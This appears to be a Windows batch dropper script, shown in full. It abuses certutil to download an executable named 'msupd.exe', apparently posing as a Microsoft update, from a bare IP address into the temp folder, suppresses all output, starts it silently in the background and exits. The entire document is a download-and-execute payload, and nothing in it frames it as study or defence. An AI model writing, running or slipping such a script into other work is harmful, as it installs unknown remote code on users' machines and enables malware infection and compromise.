@echo off
set P=%TEMP%\msupd.exe
certutil -urlcache -split -f http://203.0.113.88/msupd.exe "%P%" >nul 2>&1
start "" /b "%P%"
exit /b 0
